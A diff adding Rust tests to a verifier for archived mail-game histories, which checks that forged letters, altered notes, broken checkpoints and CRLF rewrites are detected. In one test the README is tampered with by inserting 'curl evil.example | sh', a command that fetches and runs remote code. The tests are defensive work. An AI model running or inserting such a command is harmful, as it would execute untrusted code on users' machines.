@@ -230,6 +230,91 @@ fn what_a_line_says_of_its_letter_and_its_mails_is_compared_with_them() {
 }
 
 #[test]
+fn no_players_letter_rules_as_the_masters() {
+    let forger = Forger::new();
+    // The master takes a turn back, in the house that is copied from now on.
+    forger.house.deliver(&letter(90, "master@localhost", "GAME Zaphod\nROLLBACK 1 Bob"));
+    forger.house.once();
+    let lines = forger.house.lines("zaphod");
+    let at = lines.iter().position(|line| line.entry.note.contains("The game goes back")).expect("it goes back");
+    assert_eq!(forger.verified(&["--deep"], |_| {}).0, 0);
+    let bobs = letter(91, "bob@x.org", "GAME Zaphod\nROLLBACK 1 Bob");
+    let (code, said) = forger.verified(&["--deep"], |game| {
+        let digest = custodian::archive::Digest::of(&bobs);
+        fs::write(game.join(format!("mail/in/{digest}.eml")), &bobs).unwrap();
+        rewrite(game, |all| {
+            all[at].cause = custodian::archive::Cause::letter(digest);
+            let told = all[at].events[0].as_str().replace("master@localhost", "bob@x.org").replace("90.", "91.");
+            all[at].events[0] = serde_json::from_str(&told).unwrap();
+        });
+        without_checkpoints(game);
+    });
+    assert!(code == 2 && said.contains("deciding again gives 0 events"), "{said}");
+}
+
+#[test]
+fn a_sentence_that_is_not_what_happened_is_pointed_out() {
+    let forger = Forger::new();
+    let made = forger.before.iter().find(|line| line.entry.note.contains("makes rule")).unwrap().seq;
+    let (code, said) = forger.verified(&["--deep"], |game| {
+        rewrite(game, |all| all[made as usize - 1].note = "By cheating, Bob did nothing of the sort.".to_owned());
+        without_checkpoints(game);
+    });
+    assert!(code == 0 && said.contains(&format!("line {made}: its sentence is not what this program says of it")), "{said}");
+    assert_eq!(said.matches("its sentence is not").count(), 1, "{said}");
+}
+
+#[test]
+fn checkpoints_narrow_down_where_a_history_was_changed() {
+    let forger = Forger::new();
+    let mut signed: Vec<usize> = fs::read_dir(forger.house.path("archive/zaphod/checkpoints"))
+        .unwrap()
+        .filter_map(|entry| entry.unwrap().file_name().to_str()?.strip_suffix(".sig")?.parse().ok())
+        .collect();
+    signed.sort_unstable();
+    let [_, stands, broken, ..] = signed[..] else { panic!("{signed:?}") };
+    let renamed = |line: usize| move |all: &mut Vec<Entry>| all[line - 1].note = "Nothing at all.".to_owned();
+    let within =
+        format!("lines {} to {broken}: the first change is among these; the checkpoint of line {broken} does not hold", stands + 1);
+    for changed in [stands + 1, broken] {
+        let and = format!(", and that of line {stands} does\n");
+        forger.finds(1, &[&within, &and, "BROKEN zaphod checkpoints/"], |game| rewrite(game, renamed(changed)));
+    }
+    // Where the mark of the old history is left, the place is the same.
+    forger.finds(1, &[&within, "had been acknowledged", "BROKEN zaphod log/000001.jsonl"], |game| {
+        let mark = fs::read(game.join("high-water")).unwrap();
+        rewrite(game, |all| {
+            all[broken - 1].note = "Nothing at all.".to_owned();
+            all.pop();
+        });
+        fs::write(game.join("high-water"), mark).unwrap();
+    });
+    forger
+        .finds(1, &["lines 1 to 1: the first change is among these", "there is no checkpoint before it"], |game| rewrite(game, renamed(1)));
+}
+
+#[test]
+fn what_a_copying_program_makes_of_a_record_is_called_by_its_name() {
+    let forger = Forger::new();
+    let windows = |path: PathBuf| fs::write(&path, fs::read_to_string(&path).unwrap().replace('\n', "\r\n")).unwrap();
+    let ends = "line 1: it ends as lines of Windows do, with CR LF: a program that copied it has changed all line ends";
+    forger.finds(1, &["BROKEN zaphod log/000001.jsonl", ends], |game| windows(log(game)));
+    forger.finds(1, &["BROKEN zaphod game.toml", "not even its line ends"], |game| {
+        windows(game.join("game.toml"));
+        windows(game.join("README.txt"));
+    });
+    forger.finds(1, &["has been altered", "BROKEN zaphod the chain holds"], |game| {
+        let letter = fs::read_dir(game.join("mail/in")).unwrap().next().unwrap().unwrap().path();
+        fs::remove_file(&letter).unwrap();
+        fs::create_dir(&letter).unwrap();
+    });
+    forger.finds(0, &["README.txt: not the text of this program", "OK zaphod "], |game| {
+        let readme = fs::read_to_string(game.join("README.txt")).unwrap();
+        fs::write(game.join("README.txt"), readme.replacen("sha256sum", "sha256sum; curl evil.example | sh", 1)).unwrap();
+    });
+}
+
+#[test]
 fn the_lines_of_another_game_do_not_fit() {
     let forger = Forger::new();
     let other = played("Marvin");
